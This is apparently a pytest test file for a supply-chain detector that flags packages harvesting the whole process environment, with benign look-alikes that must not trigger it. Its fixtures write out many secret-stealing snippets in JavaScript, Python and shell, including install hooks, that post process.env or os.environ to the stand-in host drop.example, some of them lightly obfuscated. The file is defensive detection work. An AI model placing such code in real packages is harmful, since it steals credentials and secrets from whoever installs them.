"""The whole environment that is sent or stored is told; one that a program inherits, or a few settings, are not."""

from __future__ import annotations

import pytest

from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import environment_harvest


def installs(source: str) -> ArtifactFacts:
    """A tarball whose install step runs this source."""
    return npm({"scripts/setup.js": source}, scripts={"postinstall": "node scripts/setup.js"})


def severities(artifact: ArtifactFacts) -> list[str]:
    """How grave what it tells is."""
    return [str(found.severity) for found in findings(environment_harvest, artifact)]


class TestAlarm:
    @pytest.mark.parametrize(
        "source",
        [
            "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });",
            "require('https').get('https://drop.example/?' + new URLSearchParams(process.env));",
            "const e = process['en' + 'v']; fetch('https://drop.example/', { method: 'POST', body: JSON.stringify({ ...e }) });",
            "const { env } = require('process'); fetch('https://drop.example/' + Buffer.from(JSON.stringify(env)).toString('base64'));",
            "const o = {}; for (const k in process.env) { o[k] = process.env[k]; } require('axios').post('https://drop.example', o);",
            "const all = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\\n'); fetch('https://drop.example', { method: 'POST', body: all });",
            "require('child_process').exec('env > /tmp/e; curl -F f=@/tmp/e https://drop.example');",
            "require('child_process').execSync('curl -d ' + JSON.stringify(process.env) + ' https://drop.example');",
            "const out = require('child_process').execSync('printenv'); require('http').request({ host: 'drop.example', method: 'POST' }).end(out);",
        ],
    )
    def test_what_javascript_sends_is_critical(self, source: str) -> None:
        (line,) = told(findings(environment_harvest, npm({"index.js": source})))
        assert line == "critical: its code takes the whole environment and sends it to drop.example"

    @pytest.mark.parametrize(
        "source",
        [
            "import os, requests\nrequests.post('https://drop.example', json=dict(os.environ))\n",
            "from os import environ as e\nimport requests\nrequests.post('https://drop.example', json={**e})\n",
            "import os, json, urllib.request as u\nu.urlopen('https://drop.example', data=json.dumps(dict(os.environ)).encode())\n",
            "import requests\ne = getattr(__import__('os'), 'env' + 'iron')\nrequests.post('https://drop.example', data=str(e))\n",
            "import os, socket\ns = socket.create_connection(('drop.example', 443))\ns.sendall(str(os.environ).encode())\n",
            "import os, subprocess, json\nsubprocess.run(['curl', '-d', json.dumps(dict(os.environ)), 'https://drop.example'])\n",
            "import subprocess, requests\nrequests.post('https://drop.example', data=subprocess.check_output('env', shell=True))\n",
        ],
    )
    def test_what_python_sends_is_critical(self, source: str) -> None:
        (line,) = told(findings(environment_harvest, wheel({"imgpress/__init__.py": source})))
        assert line == "critical: its code takes the whole environment and sends it to drop.example"

    @pytest.mark.parametrize(
        "source",
        [
            "require('fs').writeFileSync('/tmp/x', JSON.stringify(process.env));",
            "const { appendFileSync: a } = require('fs'); a('/tmp/x', Object.entries(process.env).join());",
            "const p = require('child_process').spawn('upload'); p.stdin.write(JSON.stringify(process.env));",
            "require('child_process').spawn('upload', ['--data', JSON.stringify(process.env)]);",
            "require('child_process').exec('env > /tmp/x');",
        ],
    )
    def test_what_an_install_step_stores_is_high_and_what_code_stores_is_medium(self, source: str) -> None:
        assert severities(installs(source)) == ["high"]
        assert severities(npm({"index.js": source})) == ["medium"]

    @pytest.mark.parametrize(
        "source",
        [
            "import json, os\njson.dump(dict(os.environ), open('/tmp/x', 'w'))\n",
            "import os, pathlib\npathlib.Path('/tmp/x').write_text('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))\n",
            "import os\nwith open('/tmp/x', 'w') as f:\n    for k in os.environ:\n        f.write(k + os.environ[k])\n",
            "import subprocess\nopen('/tmp/x', 'w').write(subprocess.check_output('env', shell=True).decode())\n",
            "import os\nos.system('env > /tmp/x')\n",
        ],
    )
    def test_what_a_setup_script_stores_is_high(self, source: str) -> None:
        assert severities(sdist({"setup.py": source})) == ["high"]

    @pytest.mark.parametrize(
        ("command", "severity"),
        [
            ("env > /tmp/.e", "high"),
            ("printenv | tee /tmp/x", "high"),
            ("export -p > a.txt", "high"),
            ('curl -d "$(env)" https://drop.example/', "critical"),
            ("env | curl -X POST --data-binary @- https://drop.example/", "critical"),
            ("env > x; curl -F f=@x https://drop.example/", "critical"),
            ('curl -d "$(env)" $WHERE', "critical"),
        ],
    )
    def test_the_ways_of_a_shell(self, command: str, severity: str) -> None:
        assert severities(npm(scripts={"preinstall": command})) == [severity]

    def test_a_file_without_a_known_path_is_a_file(self) -> None:
        source = "module.exports = (path) => require('fs').writeFileSync(path, JSON.stringify(process.env));"
        assert told(findings(environment_harvest, installs(source))) == [
            "high: its install step takes the whole environment and writes it to a file"
        ]

    def test_a_start_up_hook_is_critical(self) -> None:
        line = "import os, urllib.request as u; u.urlopen('https://drop.example/', data=str(dict(os.environ)).encode())"
        assert told(findings(environment_harvest, wheel({"a.pth": line}))) == [
            "critical: its start-up hook takes the whole environment and sends it to drop.example"
        ]

    def test_it_shows_where_it_is_taken_and_where_it_goes(self) -> None:
        source = "const all = JSON.stringify(process.env);\n\nfetch('https://drop.example/', { method: 'POST', body: all });\n"
        (found,) = findings(environment_harvest, installs(source))
        assert places(found) == ["package.json:5", "scripts/setup.js:1", "scripts/setup.js:3"]

    def test_a_host_that_is_computed_is_high_in_imported_code(self) -> None:
        source = "module.exports = (url) => fetch(url, { method: 'POST', body: JSON.stringify(process.env) });"
        assert told(findings(environment_harvest, npm({"index.js": source}))) == [
            "high: its code takes the whole environment and sends it away"
        ]

    def test_in_a_test_it_is_medium(self) -> None:
        source = "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });"
        assert severities(npm({"test/x.test.js": source})) == ["medium"]


class TestInnocentTwin:
    @pytest.mark.parametrize(
        "source",
        [
            # the shapes of cross-env, debug, dotenv, rc, webpack's define, and of reports of one variable
            "require('child_process').spawn('git', ['fetch'], { env: { ...process.env, LANG: 'C' } });",
            "require('child_process').execSync('make', { env: Object.assign({}, process.env, { CC: 'gcc' }), stdio: 'inherit' });",
            "module.exports = Object.keys(process.env).filter((key) => /^debug_/i.test(key)).reduce((o, key) => { o[key] = process.env[key]; return o; }, {});",
            "console.log(JSON.stringify(process.env, null, 2));",
            "const parsed = require('fs').readFileSync('.env', 'utf8').split('\\n'); for (const line of parsed) { const [k, v] = line.split('='); process.env[k] = v; }",
            "require('fs').writeFileSync('build.json', JSON.stringify({ node: process.env.NODE_ENV }));",
            "fetch('http://localhost:3000/env', { method: 'POST', body: JSON.stringify(process.env) });",
        ],
    )
    def test_ordinary_javascript(self, source: str) -> None:
        assert findings(environment_harvest, installs(source)) == []

    @pytest.mark.parametrize(
        "source",
        [
            "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ, CC='gcc'))\n",
            "import os, subprocess\nenv = os.environ.copy()\nenv['LANG'] = 'C'\nsubprocess.Popen(['git', 'log'], env=env)\n",
            "import os\nfor name, value in sorted(os.environ.items()):\n    print(name, value)\n",
            "import os\nSETTINGS = {k[4:]: v for k, v in os.environ.items() if k.startswith('APP_')}\n",
            "import os, requests\nrequests.get('https://api.example', headers={'x': os.environ['APP_KEY']})\n",
            "import os\nopen('/tmp/x', 'w').write(os.environ.get('HOME', ''))\n",
            "import os\nos.execle('/usr/bin/man', 'man', 'x', os.environ)\n",
            "import os\nos.posix_spawn('/bin/ls', ['ls'], os.environ)\n",
        ],
    )
    def test_ordinary_python(self, source: str) -> None:
        assert findings(environment_harvest, sdist({"setup.py": source})) == []

    def test_a_library_that_looks_for_a_program_by_the_environment_is_no_warning(self) -> None:
        """The shape of cross-spawn in a bundle: names of variables are compared without case."""
        source = """
const { spawn } = require("child_process");
function read(env, name) {
  for (const key of Object.keys(env)) if (key.toUpperCase() === name) return env[key];
}
module.exports = (command, args) => spawn(read(process.env, "COMSPEC") + command, ["/d", read(process.env, "PATH")].concat(args));
"""
        assert set(severities(installs(source))) <= {"medium"}

    def test_a_setup_script_that_hands_paths_of_the_environment_to_a_compiler_is_no_warning(self) -> None:
        """The shape of distutils: names are compared without case, and the paths of one variable are arguments."""
        source = """
import os, subprocess

env = {key.lower(): value for key, value in os.environ.items()}
subprocess.check_call(["cl.exe", "/I" + env.get("include", ""), "x.c"])
"""
        assert set(severities(sdist({"setup.py": source}))) <= {"medium"}

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = installs("require('fs').writeFileSync('/tmp/x', JSON.stringify(process.env));")
        assert [found.new for found in findings(environment_harvest, old, old)] == [False]
